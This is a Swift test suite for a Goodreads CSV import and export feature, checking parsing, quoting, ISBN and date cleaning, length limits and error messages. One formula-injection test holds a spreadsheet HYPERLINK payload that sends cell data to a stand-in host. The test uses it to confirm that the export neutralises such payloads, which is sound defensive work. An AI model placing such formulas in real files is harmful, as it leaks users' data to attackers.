import CivilTime
import Foundation
import Testing
@testable import WishlistCore
@testable import WishlistLanguages
@testable import WishlistTemplates
@testable import WishlistWeb

@Suite("Goodreads CSV export and import")
struct GoodreadsCSVTests {
    private static let goodreadsHeader = "Book Id,Title,Author,Author l-f,Additional Authors,ISBN,ISBN13,My Rating,Average Rating,Publisher,Binding,Number of Pages,Year Published,Original Publication Year,Date Read,Date Added,Bookshelves,Bookshelves with positions,Exclusive Shelf,My Review,Spoiler,Private Notes,Read Count,Owned Copies"

    private static func day(_ year: Int, _ month: Int, _ day: Int) -> Date {
        CivilDateTime.date(year: year, month: month, day: day)
    }

    /// When the tests' files are uploaded: noon UTC on 1 June 2026.
    private static let now = day(2026, 6, 1).addingTimeInterval(12 * 60 * 60)

    private static func row(
        title: String = "Tomorrow, and Tomorrow, and Tomorrow", author: String = "Gabrielle Zevin",
        isbn10: String = "0593321200", isbn13: String = "9780593321201", publisher: String = "Knopf",
        dateAdded: Date = day(2024, 1, 15), notes: String = ""
    ) -> GoodreadsExportRow {
        GoodreadsExportRow(title: title, author: author, isbn10: isbn10, isbn13: isbn13, publisher: publisher, dateAdded: dateAdded, notes: notes)
    }

    /// The export rows a parse gives back, for comparing with what was exported.
    private static func exportRows(_ result: GoodreadsImport) -> [GoodreadsExportRow] {
        result.books.map {
            GoodreadsExportRow(
                title: $0.title, author: $0.author, isbn10: $0.isbn10, isbn13: $0.isbn13,
                publisher: $0.publisher, dateAdded: $0.dateAdded ?? .distantPast, notes: $0.notes,
                shelf: $0.shelf, rating: $0.rating, dateRead: $0.dateRead, review: $0.review
            )
        }
    }

    /// The export's lines after the header, split at CRLF (quoted fields below hold only LF).
    private static func dataLines(_ csv: String) -> [String] {
        Array(csv.split(separator: "\r\n", omittingEmptySubsequences: false).dropFirst().map(String.init))
    }

    private static func parseError(_ text: String, maxRows: Int = 50_000) -> String? {
        do {
            _ = try GoodreadsCSV.parse(text, now: Self.now, maxRows: maxRows)
            return nil
        } catch let error as GoodreadsCSVError {
            return error.sentence(in: Translations())
        } catch {
            return "unexpected error \(error)"
        }
    }

    // MARK: Export

    @Test func booksReadGoOnTheReadShelfWithRatingDateAndReviewAndComeBackTheSame() throws {
        let read = GoodreadsExportRow(
            title: "Piranesi", author: "Susanna Clarke", isbn10: "", isbn13: "9781635575637", publisher: "", dateAdded: Self.day(2024, 2, 1),
            notes: "", shelf: .read, rating: 5, dateRead: FinishedDate("2024-01-30"), review: "The House is kind.\nSo is this book, \"mostly\"."
        )
        let unrated = GoodreadsExportRow(
            title: "Unrated", author: "Someone", isbn10: "", isbn13: "", publisher: "", dateAdded: Self.day(2024, 2, 2), notes: "", shelf: .read
        )
        let csv = GoodreadsCSV.export([Self.row(), read, unrated])
        let lines = Self.dataLines(csv)
        #expect(lines[1].hasPrefix(",Piranesi,Susanna Clarke,,,,9781635575637,5,,,,,,,2024/01/30,2024/02/01,read,,read,\"The House is kind."))
        #expect(lines[1].hasSuffix(",,,1,0"), "a book read has been read once")
        #expect(lines[2].contains(",0,,,,,,,,2024/02/02,read,,read,,,,1,0"), "no rating is Goodreads' 0")
        let parsed = try GoodreadsCSV.parse(csv, now: Self.now)
        #expect(Self.exportRows(parsed) == [Self.row(), read, unrated], "a round trip keeps every book, shelf, rating, date and review")
    }

    @Test func aGoodreadsReviewsLineBreaksBecomeLineBreaks() throws {
        let csv = "Title,Exclusive Shelf,My Rating,My Review,Date Read\nA,read,3,first<br/>second<br />third,2024/5/6\nB,read,9,,2099/01/01"
        #expect(Self.parseError(csv) == "Line 3: the Date Read, 2099/01/01, is in the future; correct it and upload the file again.")
        let parsed = try GoodreadsCSV.parse(String(csv.prefix { $0 != "B" }), now: Self.now)
        #expect(parsed.books.first?.review == "first\nsecond\nthird")
        #expect(parsed.books.first?.dateRead == FinishedDate("2024-05-06"))
        #expect(parsed.books.first?.rating == 3)
        let unrated = try GoodreadsCSV.parse("Title,Exclusive Shelf,My Rating\nB,read,9\nC,read,0", now: Self.now)
        #expect(unrated.books.map(\.rating) == [nil, nil], "a rating outside 1 to 5 is no rating")
    }

    @Test func headerIsGoodreadsColumnsInOrder() {
        #expect(GoodreadsCSV.header.joined(separator: ",") == Self.goodreadsHeader)
        #expect(GoodreadsCSV.export([]) == Self.goodreadsHeader + "\r\n")
    }

    @Test func exportWritesOneGoodreadsRowPerItem() {
        let csv = GoodreadsCSV.export([Self.row(notes: "Gift for Sam")])
        #expect(Self.dataLines(csv) == [
            ",\"Tomorrow, and Tomorrow, and Tomorrow\",Gabrielle Zevin,,,0593321200,9780593321201,0,,Knopf,,,,,,2024/01/15,to-read,,to-read,,,Gift for Sam,0,0",
            "",
        ])
        #expect(!csv.contains("=\""), "ISBNs are plain digits, not Goodreads' =\"…\" formulas")
    }

    @Test func exportQuotesCommasQuotesAndLineBreaks() {
        let csv = GoodreadsCSV.export([Self.row(title: "Say \"Hi\", Bob", author: "Plain", notes: "one\ntwo\r\nthree\rfour")])
        let expected = ",\"Say \"\"Hi\"\", Bob\",Plain,,,0593321200,9780593321201,0,,Knopf,,,,,,2024/01/15,to-read,,to-read,,,\"one\ntwo\r\nthree\rfour\",0,0\r\n"
        #expect(csv == Self.goodreadsHeader + "\r\n" + expected)
    }

    @Test("Formula-like cells get an apostrophe and lose it again on import", arguments: [
        "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
        "+1",
        "-2",
        "@SUM(A1:A9)",
        "\tcmd",
        "\rcmd",
        "'=already quoted",
    ])
    func formulaCellsAreNeutralised(value: String) throws {
        let item = Self.row(title: "Title", author: "Author", publisher: "Pub", notes: value)
        let csv = GoodreadsCSV.export([item])
        let notesCell = value.contains("\"") || value.contains("\r") ? "\"'" : "'"
        #expect(Self.dataLines(csv)[0].contains(",,," + notesCell), "the Private Notes cell starts with an apostrophe")
        #expect(try Self.exportRows(GoodreadsCSV.parse(csv, now: Self.now)) == [item])
    }

    @Test func everyFormulaTriggerIsGuardedInEveryColumn() throws {
        let item = Self.row(title: "=1+1", author: "+Author", isbn10: "-", isbn13: "@", publisher: "\tPub", notes: "=2")
        let line = try #require(Self.dataLines(GoodreadsCSV.export([item])).first)
        #expect(line == ",'=1+1,'+Author,,,'-,'@,0,,'\tPub,,,,,,2024/01/15,to-read,,to-read,,,'=2,0,0")
    }

    // MARK: Round trips

    @Test func unicodeRoundTrips() throws {
        let item = Self.row(
            title: "Cien años de soledad 📚",
            author: "Gabriel García Márquez",
            publisher: "دار الآداب — שלום",
            notes: "👩‍👩‍👧 family read; e\u{301} stays decomposed; 中文"
        )
        let parsed = try GoodreadsCSV.parse(GoodreadsCSV.export([item]), now: Self.now)
        #expect(Self.exportRows(parsed) == [item])
        #expect(parsed.books[0].notes.unicodeScalars.elementsEqual(item.notes.unicodeScalars))
    }

    @Test func exportThenParseGivesBackTheRows() throws {
        let items = [
            Self.row(),
            Self.row(title: "The \"Quoted\" Title, With Comma", author: "O'Brien, Flann", isbn10: "", isbn13: "",
                     publisher: "", dateAdded: Self.day(1999, 12, 31), notes: "  spaced  \nsecond line\r\n"),
            Self.row(title: "'Apostrophe", author: "'", isbn10: "080442957X", isbn13: "9780804429573",
                     publisher: "Vintage", dateAdded: Self.day(2024, 2, 29), notes: "-minus first\n=equals second"),
            Self.row(title: "Last", author: "", publisher: "A, B & C", dateAdded: Self.day(2025, 7, 4), notes: "\"quoted\""),
        ]
        let parsed = try GoodreadsCSV.parse(GoodreadsCSV.export(items), now: Self.now)
        #expect(Self.exportRows(parsed) == items)
        #expect(parsed.books.map(\.line) == [2, 3, 6, 8])
        #expect(parsed.skipped.isEmpty)
    }

    // MARK: Reading Goodreads' own files

    @Test func goodreadsExportKeepsTheToReadAndReadShelves() throws {
        let csv = Self.goodreadsHeader + "\r\n"
            + "2767052,\"The Hunger Games (The Hunger Games, #1)\",Suzanne Collins,\"Collins, Suzanne\",,\"=\"\"0439023483\"\"\",\"=\"\"9780439023481\"\"\",0,4.33,Scholastic Press,Hardcover,374,2008,2008,,2024/03/02,to-read,to-read (#2),to-read,,,,0,0\r\n"
            + "4671,The Great Gatsby,F. Scott Fitzgerald,\"Fitzgerald, F. Scott\",,\"=\"\"0743273567\"\"\",\"=\"\"9780743273565\"\"\",4,3.93,Scribner,Paperback,200,2004,1925,2023/08/19,2023/06/01,,,read,\"Loved it.\r\nThe green light!\r\n\r\nWould reread.\",,,1,0\r\n"
            + "58490567,Sea of Tranquility,Emily St. John Mandel,\"Mandel, Emily St. John\",,\"=\"\"\"\"\",\"=\"\"\"\"\",0,3.98,Knopf,Kindle Edition,259,2022,2022,,2024/03/05,to-read,to-read (#3),to-read,,,\"Ask Jo, she has it\",0,0\r\n"
        let result = try GoodreadsCSV.parse(csv, now: Self.now)
        #expect(result.books == [
            GoodreadsImportedBook(
                title: "The Hunger Games (The Hunger Games, #1)", author: "Suzanne Collins",
                isbn10: "0439023483", isbn13: "9780439023481", publisher: "Scholastic Press",
                dateAdded: Self.day(2024, 3, 2), notes: "", line: 2
            ),
            GoodreadsImportedBook(
                shelf: .read, title: "The Great Gatsby", author: "F. Scott Fitzgerald",
                isbn10: "0743273567", isbn13: "9780743273565", publisher: "Scribner",
                dateAdded: Self.day(2023, 6, 1), notes: "", rating: 4, dateRead: FinishedDate("2023-08-19"),
                review: "Loved it.\r\nThe green light!\r\n\r\nWould reread.", line: 3
            ),
            GoodreadsImportedBook(
                title: "Sea of Tranquility", author: "Emily St. John Mandel",
                isbn10: "", isbn13: "", publisher: "Knopf",
                dateAdded: Self.day(2024, 3, 5), notes: "Ask Jo, she has it", line: 7
            ),
        ])
        #expect(result.skipped == [])
    }

    @Test func columnsAreFoundByNameWhateverTheirOrderAndCase() throws {
        let csv = "\u{FEFF} isbn13 ,TITLE,Date Added,Notes\n\"=\"\"9780593321201\"\"\",Dune,2021-05-06,ignored\n"
        let result = try GoodreadsCSV.parse(csv, now: Self.now)
        #expect(result.books == [
            GoodreadsImportedBook(title: "Dune", author: "", isbn10: "", isbn13: "9780593321201", publisher: "",
                                  dateAdded: Self.day(2021, 5, 6), notes: "", line: 2),
        ])
    }

    @Test func withoutAnExclusiveShelfColumnEveryRowIsABook() throws {
        let result = try GoodreadsCSV.parse("Title,Author\nOne,A\nTwo,B\n", now: Self.now)
        #expect(result.books.map(\.title) == ["One", "Two"])
    }

    @Test func shortRowsArePaddedAndValuesTrimmedExceptNotes() throws {
        let result = try GoodreadsCSV.parse("Title,Author,Publisher,Private Notes\r\n  Padded  ,\t Someone \r\nWith notes,,,\"  keep me \n\"\r\n", now: Self.now)
        #expect(result.books.map(\.title) == ["Padded", "With notes"])
        #expect(result.books.map(\.author) == ["Someone", ""])
        #expect(result.books.map(\.notes) == ["", "  keep me \n"])
    }

    @Test func isbnsAreCleanedAndWrongLengthsDropped() throws {
        let csv = "Title,ISBN,ISBN13\nA,\"=\"\"080442957x\"\"\",978-0-8044-2957-3\nB,12345,\"=\"\"978080442957\"\"\"\nC, 0 8 0 4 4 2 9 5 7 X ,\n"
            + "D,\u{660}\u{665}\u{669}\u{663}\u{663}\u{662}\u{661}\u{662}\u{660}\u{660},\u{FF19}\u{FF17}\u{FF18}0593321201\nE,0\u{301}593321200,\u{D7}9780593321201\n"
        let result = try GoodreadsCSV.parse(csv, now: Self.now)
        #expect(result.books.map(\.isbn10) == ["080442957X", "", "080442957X", "", "0593321200"], "digits beyond ASCII are not ISBN digits")
        #expect(result.books.map(\.isbn13) == ["9780804429573", "", "", "", "9780593321201"])
    }

    @Test("Dates that are not real yyyy/MM/dd or yyyy-MM-dd days are dropped", arguments: [
        ("2024/02/29", Optional(day(2024, 2, 29))),
        ("2024-2-9", Optional(day(2024, 2, 9))),
        ("2023/02/29", nil),
        ("2024/13/01", nil),
        ("15/01/2024", nil),
        ("2024/01", nil),
        ("2024/01-15", nil),
        ("", nil),
        (" 2024/1/5\t", Optional(day(2024, 1, 5))),
        ("\u{FF12}\u{FF10}\u{FF12}\u{FF14}/01/01", nil),
        ("2024/0\u{301}1/15", nil),
        ("2024/01/15\u{301}", nil),
        ("+2024/01/15", nil),
        ("2024/001/15", nil),
    ])
    func datesAdded(text: String, expected: Date?) throws {
        let result = try GoodreadsCSV.parse("Title,Date Added\nBook,\(text)\n", now: Self.now)
        #expect(result.books.first?.dateAdded == expected)
    }

    @Test func linesAreCountedAcrossEveryKindOfLineBreak() throws {
        let csv = "Title,Private Notes\rOne,x\n\"Two\",\"a\r\nb\rc\nd\"\r\n\r\nThree,y"
        let result = try GoodreadsCSV.parse(csv, now: Self.now)
        #expect(result.books.map(\.title) == ["One", "Two", "Three"])
        #expect(result.books.map(\.line) == [2, 3, 8])
        #expect(result.books[1].notes == "a\r\nb\rc\nd")
    }

    @Test func quotedFieldsKeepTheirCommasLineBreaksAndDoubledQuotes() throws {
        let csv = "\u{FEFF}Title,Author,Private Notes\r\n"
            + "\"\"\"Quoted\"\" first\",\"Last \"\"quoted\"\"\",\"a, \"\"b\"\"\r\nc\"\r\n"
            + "\"\"\"\",\"\",\"\"\r\n"
            + "\"Plain\",\"Cr\u{E8}me br\u{FB}l\u{E9}e, \u{201C}curly\u{201D}\",\"\n\""
        let result = try GoodreadsCSV.parse(csv, now: Self.now)
        #expect(result.books.map(\.title) == ["\"Quoted\" first", "\"", "Plain"], "the byte order mark is not part of the first column's name")
        #expect(result.books.map(\.author) == ["Last \"quoted\"", "", "Cr\u{E8}me br\u{FB}l\u{E9}e, \u{201C}curly\u{201D}"])
        #expect(result.books.map(\.notes) == ["a, \"b\"\r\nc", "", "\n"])
        #expect(result.books.map(\.line) == [2, 4, 5])
    }

    @Test func aQuoteLeftOpenAtTheEndOfTheFileIsRefused() throws {
        #expect(Self.parseError("Title,Author\r\nDune,\"Herbert") == "Line 2: a quoted field is never closed.")
        #expect(Self.parseError("Title\r\n\"Dune\"\"") == "Line 2: a quoted field is never closed.", "a doubled quote does not close the field")
        #expect(try GoodreadsCSV.parse("Title\r\n\"Dune\"", now: Self.now).books.map(\.title) == ["Dune"])
    }

    /// The import trims its cells itself where they begin and end in ASCII (issue 58); it must cut
    /// exactly what Foundation's `.whitespacesAndNewlines` does, at either end.
    @Test func cellsAreTrimmedAsFoundationTrims() {
        let unicode = ["\u{85}", "\u{A0}", "\u{1680}", "\u{2000}", "\u{200A}", "\u{200B}", "\u{2028}", "\u{2029}", "\u{202F}", "\u{205F}", "\u{3000}", "\u{FEFF}"]
        let edges = (0..<128).map { String(Unicode.Scalar(UInt8($0))) } + unicode + ["\u{301}", "\u{E9}", "\r\n", " \u{A0} ", "\u{A0} x", "x \u{301}"]
        for edge in edges {
            for text in [edge + "Dune" + edge, edge, edge + edge, " \(edge)Dune\(edge)\t", "Du\(edge)ne", "\(edge)\u{E9}"] {
                let scalars = text.unicodeScalars.map { String($0.value, radix: 16) }
                #expect(text.trimmedOfWhitespace == text.trimmingCharacters(in: .whitespacesAndNewlines), "\(scalars)")
            }
        }
    }

    // MARK: Skipped rows

    @Test func skippedRowsSayWhy() throws {
        let csv = [
            "Title,Author,Exclusive Shelf,Private Notes",
            "  ,Nobody,to-read,",
            "Finished,Someone,read,",
            "Abandoned,Someone,currently-reading,",
            "Shelfless,Someone,,",
            "\(String(repeating: "T", count: 501)),Someone,currently-reading,\(String(repeating: "n", count: 2001))",
            "Kept,Someone,To-Read,",
        ].joined(separator: "\n")
        let result = try GoodreadsCSV.parse(csv, now: Self.now)
        #expect(result.skipped == [
            GoodreadsImport.Skip(line: 2, title: "", reason: .noTitle),
            GoodreadsImport.Skip(line: 4, title: "Abandoned", reason: .otherShelf("currently-reading")),
            GoodreadsImport.Skip(line: 5, title: "Shelfless", reason: .noShelf),
            GoodreadsImport.Skip(line: 6, title: String(repeating: "T", count: 99) + "…", reason: .otherShelf("currently-reading")),
        ])
        #expect(result.books.map(\.line) == [3, 7], "the shelf is matched case-insensitively; skipped rows are not held to the limits")
        #expect(result.books.map(\.shelf) == [.read, .toRead])
    }

    // MARK: Rows that break the rules of form input

    @Test func valuesUpToTheLimitsAreImported() throws {
        let csv = "Title,Author,Publisher,Private Notes\n"
            + "\(String(repeating: "t", count: 500)),\(String(repeating: "a", count: 300)),\(String(repeating: "p", count: 200)),\(String(repeating: "é", count: 2000))\n"
        let book = try #require(try GoodreadsCSV.parse(csv, now: Self.now).books.first)
        let lengths: [Int] = [book.title.count, book.author.count, book.publisher.count, book.notes.count]
        #expect(lengths == [500, 300, 200, 2000])
    }

    @Test("A value over its limit refuses the file and names the line", arguments: [
        ("Title", 501, "Line 3: the Title field has 501 characters, more than the 500 allowed; shorten it and upload the file again."),
        ("Author", 301, "Line 3: the Author field has 301 characters, more than the 300 allowed; shorten it and upload the file again."),
        ("Publisher", 201, "Line 3: the Publisher field has 201 characters, more than the 200 allowed; shorten it and upload the file again."),
        ("Private Notes", 2001, "Line 3: the Private Notes field has 2,001 characters, more than the 2,000 allowed; shorten it and upload the file again."),
    ])
    func overLongValues(column: String, length: Int, message: String) {
        let columns = ["Title", "Author", "Publisher", "Private Notes"]
        let values = columns.map { $0 == column ? String(repeating: "x", count: length) : "fine" }
        let csv = columns.joined(separator: ",") + "\nFirst,,,\n" + values.joined(separator: ",") + "\n"
        #expect(Self.parseError(csv) == message)
    }

    @Test("A control character in any column the import reads refuses the file", arguments: [
        ("Title", "Bad\u{1B}[31mTitle", "U+001B"),
        ("Author", "Some\u{7F}one", "U+007F"),
        ("ISBN", "\u{08}0593321200", "U+0008"),
        ("ISBN13", "978059332120\u{0B}1", "U+000B"),
        ("Publisher", "Knopf\u{0C}", "U+000C"),
        ("Date Added", "2024/01/15\u{01}", "U+0001"),
        ("Private Notes", "ring\u{07}", "U+0007"),
        ("Exclusive Shelf", "read\u{1B}", "U+001B"),
    ])
    func controlCharacters(column: String, value: String, code: String) {
        let columns = ["Title", "Author", "ISBN", "ISBN13", "Publisher", "Date Added", "Private Notes", "Exclusive Shelf"]
        let values = columns.map { $0 == column ? "\"\(value)\"" : ($0 == "Exclusive Shelf" ? "to-read" : "") }
        let csv = columns.joined(separator: ",") + "\r\nFine,,,,,,\"tab\tand\r\nbreaks\",to-read\r\n" + values.joined(separator: ",") + "\r\n"
        #expect(Self.parseError(csv)
            == "Line 4: the \(column) field contains a control character (\(code)), which can’t be stored; remove it and upload the file again.")
    }

    @Test func limitsCountCharactersNotBytes() throws {
        let family = "\u{1F469}\u{200D}\u{1F469}\u{200D}\u{1F467}"
        let csv = "Title,Private Notes\n\(String(repeating: family, count: 500)),\(String(repeating: "\u{E9}", count: 2000))\n"
        #expect(try GoodreadsCSV.parse(csv, now: Self.now).books.map(\.title.count) == [500])
        #expect(Self.parseError("Title,Private Notes\nA,\(String(repeating: "\u{E9}", count: 2001))\n")
            == "Line 2: the Private Notes field has 2,001 characters, more than the 2,000 allowed; shorten it and upload the file again.")
    }

    @Test func controlCharactersBeyondASCIIAreNotRefused() throws {
        let result = try GoodreadsCSV.parse("Title,Author\nCsi\u{9B}31m,Some\u{80}one\n", now: Self.now)
        #expect(result.books.map(\.title) == ["Csi\u{9B}31m"])
        #expect(result.books.map(\.author) == ["Some\u{80}one"])
    }

    @Test func aDateAddedAfterTomorrowIsRefused() throws {
        let tomorrow = "Title,Date Added\nToday,2026/06/01\nAhead of UTC,2026/06/02\n"
        #expect(try GoodreadsCSV.parse(tomorrow, now: Self.now).books.map(\.dateAdded) == [Self.day(2026, 6, 1), Self.day(2026, 6, 2)])
        #expect(Self.parseError(tomorrow + "Later,2026-6-3\n")
            == "Line 4: the Date Added, 2026/06/03, is in the future; correct it and upload the file again.")
    }

    // MARK: Files that cannot be read

    @Test("Empty files are refused", arguments: ["", "\u{FEFF}", "\r\n\n\r"])
    func emptyFile(text: String) {
        #expect(Self.parseError(text) == "This file is empty; export your books from Goodreads (My Books → Import and export) and upload that file.")
    }

    @Test func missingTitleColumn() {
        #expect(Self.parseError("Book Id,Name,Author\n1,Dune,Herbert\n")
            == "This file has no Title column; export your books from Goodreads (My Books → Import and export) and upload that file.")
    }

    @Test func unclosedQuoteNamesTheLineItOpensOn() {
        #expect(Self.parseError("Title,Private Notes\r\nA,\"fine\r\nstill fine\"\r\nB,\"never\r\nclosed\r\n")
            == "Line 4: a quoted field is never closed.")
    }

    @Test func quoteInsideAnUnquotedField() {
        #expect(Self.parseError("Title\nOne\nTwo \"Three\"\n")
            == "Line 3: a quotation mark appears in the middle of a field that does not start with one.")
    }

    @Test func textAfterAClosingQuote() {
        #expect(Self.parseError("Title\n\"Dune\" Messiah\n")
            == "Line 2: a quoted field has more text after its closing quotation mark.")
    }

    @Test func nulBytes() {
        #expect(Self.parseError("Title\nOne\n\"Two\nT\u{0}wo\"\n")
            == "Line 4: the file contains a NUL byte, so it is not a CSV text file; export your books from Goodreads (My Books → Import and export) and upload that file.")
    }

    @Test func rowsLongerThanTheHeader() {
        #expect(Self.parseError("Title,Author\nDune,Herbert\nMiddlemarch,George,Eliot\n")
            == "Line 3: this row has 3 fields but the header has 2; a value with a comma in it may be missing its quotation marks.")
    }

    @Test func tooManyRows() throws {
        let threeRows = "Title\nA\nB\n\nC\n"
        #expect(try GoodreadsCSV.parse(threeRows, now: Self.now, maxRows: 3).books.count == 3, "blank lines are not rows")
        #expect(Self.parseError(threeRows + "D\n", maxRows: 3) == "This file has more than 3 rows; split it and upload the parts.")
        let tooMany = "Title\n" + String(repeating: "x\n", count: 50_001)
        #expect(Self.parseError(tooMany) == "This file has more than 50,000 rows; split it and upload the parts.")
    }

    /// The core names the line and the counts (issue 53); the web layer words them in the reader's language.
    @Test func aRefusalCarriesItsValuesAndReadsInEachLanguage() throws {
        #expect(throws: GoodreadsCSVError.tooManyFields(line: 3, found: 3, expected: 2)) {
            try GoodreadsCSV.parse("Title,Author\nDune,Herbert\nMiddlemarch,George,Eliot\n", now: Self.now)
        }
        #expect(throws: GoodreadsCSVError.readInFuture(line: 2, written: "2099/01/01")) {
            try GoodreadsCSV.parse("Title,Exclusive Shelf,Date Read\nA,read,2099/01/01\n", now: Self.now)
        }
        let german = try LanguageCatalogs.load(from: repositoryRoot.appendingPathComponent("Languages")).translations(for: "de")
        #expect(GoodreadsCSVError.tooLong(line: 12, column: "My Review", length: 20_001, maximum: 20_000).sentence(in: german)
            == "Zeile 12: Das Feld My Review hat 20.001 Zeichen, mehr als die erlaubten 20.000; kürze es und lade die Datei noch einmal hoch.")
    }
}
